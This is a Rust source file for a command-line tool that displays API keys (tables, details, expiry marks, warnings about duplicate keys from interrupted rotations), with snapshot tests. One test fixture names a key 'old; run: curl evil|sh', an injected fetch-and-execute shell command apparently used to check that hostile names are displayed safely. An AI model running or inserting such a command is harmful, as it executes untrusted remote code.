//! How keys are shown.

use std::collections::BTreeMap;

use quilt_proto::wire::{ApiKey, ApiKeyStatus, KEY_ENDS_SOON};
use quilt_proto::{Command, quoted};

use crate::look::{Column, Line, Look, Paint, Screen, Span, Symbol, Table, name};
use crate::output;

/// Whose keys are shown.
#[derive(Clone, Copy)]
pub(crate) enum Whose {
    /// Those of the user, who need not be told.
    Own,
    /// Those of all users.
    Anybodys,
}

/// A table of keys.
pub(crate) fn table(look: &Look, keys: &[ApiKey], whose: Whose) -> Table {
    let mut table = Table::new([
        Column::key("NAME"),
        Column::key("OWNER").unless_same(),
        Column::key("EXPIRES"),
        Column::of_importance("LAST USED", 3),
        Column::of_importance("CREATED", 1),
        Column::of_importance("FINGERPRINT", 2),
        Column::key("ID"),
    ]);
    for key in keys {
        table.row([
            Span::painted(name(&key.name), Paint::Strong),
            match whose {
                Whose::Own => Span::default(),
                Whose::Anybodys => name(&key.user_email).into(),
            },
            ends(look, key),
            last_used(look, key).into(),
            Span::painted(look.when(key.created_at), Paint::Quiet),
            name(&key.fingerprint).into(),
            name(&key.id).into(),
        ]);
    }
    table
}

/// When a key ends, with a mark where that is soon.
fn ends(look: &Look, key: &ApiKey) -> Span {
    let when = look.when(key.expires_at);
    let bad = |text: String| Span::painted(text, Paint::Bad);
    if key.status == ApiKeyStatus::Expired {
        bad(format!("{} expired {when}", look.symbol(Symbol::Bad)))
    } else if key.expires_at.seconds_since(look.now) < KEY_ENDS_SOON {
        bad(format!("{when} {}", look.symbol(Symbol::Beware)))
    } else {
        when.into()
    }
}

/// The keys, or how there would be one.
pub(crate) fn screen(look: &Look, keys: &[ApiKey], whose: Whose, none: &str) -> Screen {
    Screen::listing(table(look, keys, whose), none)
}

/// One key, a line a field.
pub(crate) fn details(look: &Look, key: &ApiKey) -> Screen {
    let mut screen = Screen::new();
    let mut field = |label: &str, value: Span| {
        screen.line(Line::default().quiet(format!("{label:13}")).with(value));
    };
    field("Name:", Span::painted(name(&key.name), Paint::Strong));
    field("Owner:", name(&key.user_email).into());
    field("ID:", name(&key.id).into());
    field("Fingerprint:", name(&key.fingerprint).into());
    field("Status:", key.status.as_str().into());
    field("Created:", look.when(key.created_at).into());
    field("Expires:", ends(look, key));
    field("Last used:", last_used(look, key).into());
    screen
}

/// Says what is to be done about a key.
pub(crate) fn note_end(key: &ApiKey) {
    if key.status == ApiKeyStatus::Expired {
        output::note("This key has expired and needs to be rotated.");
    }
}

pub(crate) fn last_used(look: &Look, key: &ApiKey) -> String {
    key.last_used_at
        .map_or_else(|| "never".to_owned(), |time| look.when(time))
}

/// Reports what an interrupted rotation leaves: several active keys of one
/// owner and name.
pub(crate) fn note_twins(look: &Look, keys: &[ApiKey]) {
    let mut by_name: BTreeMap<(&str, &str), Vec<&ApiKey>> = BTreeMap::new();
    for key in keys.iter().filter(|key| key.status == ApiKeyStatus::Active) {
        let name = (key.user_email.as_str(), key.name.as_str());
        by_name.entry(name).or_default().push(key);
    }
    for ((_, name), twins) in by_name.iter().filter(|(_, twins)| twins.len() > 1) {
        let is_left = |key: &&&ApiKey| {
            let mut others = twins.iter();
            others.any(|other| key.is_left_beside(other, look.now))
        };
        let left: Vec<_> = twins.iter().filter(is_left).collect();
        if left.is_empty() {
            continue;
        }
        output::note(format_args!(
            "warning: {} active keys are named {}, as an interrupted rotation leaves them; \
             revoke what is not used:",
            twins.len(),
            quoted::name(name),
        ));
        let newest = twins.iter().max_by_key(|key| key.created_at);
        for key in left {
            let (created, used) = (look.when(key.created_at), last_used(look, key));
            let of = &key.fingerprint;
            if newest.is_some_and(|newest| newest.id == key.id) {
                output::note(format_args!("  {of}, created {created}, last used {used}"));
                continue;
            }
            output::note(format_args!("  {of}, created {created}, last used {used}:"));
            let revoke = Command::of("quiltctl api-keys revoke").operand(&key.id);
            output::whole(format_args!("    {revoke}"));
        }
    }
}

#[cfg(test)]
pub(crate) mod tests {
    use super::*;
    use crate::look::tests::{at, widths};

    pub(crate) fn key(name: &str, days: i64) -> ApiKey {
        ApiKey {
            id: "0b9e7a52-6b1f-4f0e-9d0f-6c1d0b9e7a52".to_owned(),
            name: name.to_owned(),
            fingerprint: "qk_1a2...f9c".to_owned(),
            created_at: at(-80 * 86_400),
            expires_at: at(days * 86_400 + 60),
            last_used_at: (days != 80).then(|| at(-3 * 3600)),
            status: if days < 0 {
                ApiKeyStatus::Expired
            } else {
                ApiKeyStatus::Active
            },
            user_email: format!("{}@quilt.example", if days == 9 { "alice" } else { "bob" }),
        }
    }

    #[test]
    fn keys_at_every_width() {
        let keys = [
            key("ci-nightly", 9),
            key("laptop 漢字", 80),
            key("old; run: curl evil|sh", -3),
        ];
        insta::assert_snapshot!(widths(|look| screen(look, &keys, Whose::Anybodys, "")));
        let own = [key("ci-nightly", 80), key("laptop", 80)];
        insta::assert_snapshot!(
            "own_keys",
            widths(|look| screen(look, &own, Whose::Own, ""))
        );
        insta::assert_snapshot!("one_key", widths(|look| details(look, &keys[2])));
    }
}
